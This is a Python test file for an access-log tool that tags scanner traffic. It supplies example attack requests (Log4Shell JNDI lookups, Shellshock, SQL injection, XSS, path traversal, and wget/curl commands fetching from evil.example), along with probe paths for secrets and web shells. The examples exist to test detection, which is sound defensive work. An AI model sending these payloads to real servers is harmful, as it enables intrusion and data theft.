"""Which requests are taken for a search for holes, and that ordinary ones never are."""

import gzip
from collections import Counter
from pathlib import Path
from urllib.parse import quote

import pyarrow as pa
import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from footfall.core.accesslog.combined import parse
from footfall.core.enrich import scanners
from footfall.core.enrich.distinct import distinct
from footfall.core.enrich.scanners import scan_column, scan_of

YAML = getattr(yaml, "CSafeLoader", yaml.SafeLoader)
ATTACKS = {
    "/${jndi:ldap://evil.example/a}": "Log4Shell",
    "/?x=${${lower:j}ndi:${lower:l}dap://evil.example}": "Log4Shell",
    "/cgi-bin/x?() { :;}; /bin/bash": "Shellshock",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php": "PHP injection",
    "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input": "PHP injection",
    "/index.php?page=/etc/passwd": "system file",
    "/static/../../../x": "path traversal",
    "/%2e%2e/%2e%2e/boot": "path traversal",
    "/%252e%252e%252f%252e%252e%252fboot": "path traversal",
    "/..\\..\\windows": "path traversal",
    "/item?id=1+UNION+ALL+SELECT+1,2,3--": "SQL injection",
    "/item?id=1/**/union/**/select/**/null": "SQL injection",
    "/item?id=1%27%20or%20%271%27=%271": "SQL injection",
    "/item?id=1;waitfor delay '0:0:5'": "SQL injection",
    "/?q=<script>alert(1)</script>": "script injection",
    "/?q=%3Cimg%20src=x%20onerror=alert(1)%3E": "script injection",
    "/shell?cd+/tmp;wget+http://evil.example/a.sh": "shell command",
    "/login?user=$(curl http://evil.example)": "shell command",
    "/?q={{7*7}}": "template injection",
    "/.env": "secrets",
    "/app/.env.local": "secrets",
    "/w00tw00t.at.blackhats.romanian.anti-sec:)": "scanner's mark",
}
PROBES = {
    "/wp-login.php": "WordPress",
    "/blog/xmlrpc.php?rsd": "WordPress",
    "/wp-content/plugins/x/readme.php": "WordPress",
    "/phpMyAdmin-4.8.1/index.php": "phpMyAdmin",
    "/pma/": "phpMyAdmin",
    "/cgi-bin/test.cgi": "CGI",
    "/.git/config": "secrets",
    "/actuator/health": "server details",
    "/HNAP1/": "device",
    "/+CSCOE+/logon.html": "device",
    "/backup.zip": "backup",
    "/c99.php": "web shell",
    "/manager/html": "Java program",
}
ORDINARY = [
    "/",
    "/certificates/iso-22000.pdf",
    "/files/Annual report (final), 2026.pdf",
    "/files/Annual%20report%20%28final%29%2C%202026.pdf",
    "/a..b.txt",
    "/images/union-select.png",
    "/blog/how-to-select-from-a-union",
    "/search?q=select+a+union+or+and+a+script",
    "/search?q=rock+%26+roll+or+jazz",
    "/docs/environment/.well-known/security.txt",
    "/.well-known/acme-challenge/x",
    "/env/prod.env.md",
    "/wp-content/uploads/2024/05/photo.jpg",
    "/scripts/app.js?v=1.2.3",
    "/c++?page=2",
    "/download?file=report.pdf&id=7",
    "/%D8%A2%D8%B4%D9%BE%D8%B2%DB%8C",
    "/shop;jsessionid=1A530637",
    "/pmanual/index.html",
    "/etc/passwords-policy.pdf",
    "/informations/benchmark.pdf",
    "/gitlab/.github/logo.png",
    "/hudson-river.pdf",
    "/struts-guide.pdf",
    "/schema.sql",
    "/manuals/information_schema.pdf",
]


@pytest.mark.parametrize(("request_", "name"), ATTACKS.items())
@pytest.mark.parametrize("refused", [False, True])
def test_an_attack_is_one_whatever_the_answer(request_: str, name: str, refused: bool) -> None:
    assert scan_of(request_, refused=refused) == name
    assert scan_of("https://example.com" + request_.upper(), refused=refused) == name


@pytest.mark.parametrize(("request_", "name"), PROBES.items())
def test_a_probe_is_one_only_where_there_is_no_such_thing(request_: str, name: str) -> None:
    assert scan_of(request_, refused=True) == name
    assert scan_of(request_, refused=False) is None


@pytest.mark.parametrize("request_", ORDINARY)
def test_ordinary_requests_are_not(request_: str) -> None:
    assert scan_of(request_, refused=True) is None


def test_every_name_of_a_rule_has_an_example() -> None:
    shown = {*ATTACKS.values(), *PROBES.values(), "Struts", "PHP program"}
    assert {rule.name for rule in scanners.ATTACKS + scanners.PROBES} == shown
    assert scan_of("/?x=%{(#_memberAccess=1)}", refused=False) == "Struts"
    assert scan_of("/adminer-4.8.php", refused=True) == "PHP program"


def test_user_agents_of_people_and_crawlers_are_not(shared_data: Path) -> None:
    text = (shared_data / "user-agents" / "test_device.yaml").read_text(encoding="utf-8")
    agents = [
        case["user_agent_string"]
        for name in ("test_ua.yaml", "test_os.yaml")
        for case in yaml.load((shared_data / "user-agents" / name).read_text(encoding="utf-8"), YAML)[  # noqa: S506
            "test_cases"
        ]
    ]
    blocks = text.split("\n  - user_agent_string:")[1::3]
    agents += [yaml.load("    string:" + block, YAML)["string"] for block in blocks]  # noqa: S506 (a safe one)
    assert len(agents) > 7_000
    found = labels([None] * len(agents), agents, [404] * len(agents))
    assert [agent for agent, label in zip(agents, found, strict=True) if label] == []


def labels(
    urls: list[str | None], agents: list[str | None], statuses: list[int | None]
) -> list[str | None]:
    texts = [distinct(pa.array(column, pa.string())) for column in (urls, agents)]
    found: list[str | None] = scan_column(*texts, pa.array(statuses, pa.int64())).to_pylist()
    return found


TEXTS = st.one_of(st.none(), st.text(max_size=12), st.sampled_from([*ATTACKS, *PROBES, *ORDINARY]))


@given(st.lists(st.tuples(TEXTS, TEXTS, st.sampled_from([None, 200, 404, 500])), max_size=12))
def test_each_row_is_labelled_by_itself(rows: list[tuple[str | None, str | None, int | None]]) -> None:
    def alone(url: str | None, agent: str | None, status: int | None) -> str | None:
        if status is None:
            return None
        refused = status >= 400
        certain = scan_of(url, refused=False) if url else None
        told = certain or (scan_of(agent, refused=False) if agent else None)
        told = told or (scan_of(url, refused=refused) if url else None)
        return told and f"scanner: {told}"

    found = labels(*map(list, zip(*rows, strict=True))) if rows else []
    assert found == [alone(*row) for row in rows]


@given(st.sampled_from([attack for attack in ATTACKS if "%" not in attack]), st.integers(1, 2))
def test_escapes_hide_nothing(request_: str, times: int) -> None:
    hidden = "".join(f"%{ord(character):02X}" for character in request_.replace("+", " "))
    assert scan_of(hidden if times == 1 else quote(hidden), refused=False) == ATTACKS[request_]


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("combined/apache-10k.log.gz", {"WordPress": 12}),
        ("combined/shop.log", {}),
        ("malformed/combined_no_errors.log", {}),
        ("malformed/dreamhost_apache_access.log", {"secrets": 2, "phpMyAdmin": 1, "WordPress": 1}),
        (
            "malformed/combined_latin1_enc.log",
            {"secrets": 12, "device": 2, "shell command": 2, "PHP injection": 1},
        ),
    ],
)
def test_real_logs(shared_data: Path, name: str, expected: dict[str, int]) -> None:
    file = shared_data / "access-logs" / name
    body = gzip.decompress(file.read_bytes()) if file.suffix == ".gz" else file.read_bytes()
    rows = parse(body).rows
    urls, agents = (
        rows[column].cast(pa.string()).combine_chunks().to_pylist() for column in ("target", "user_agent")
    )
    found = Counter(label for label in labels(urls, agents, rows["status"].to_pylist()) if label)
    assert found == {f"scanner: {rule}": count for rule, count in expected.items()}
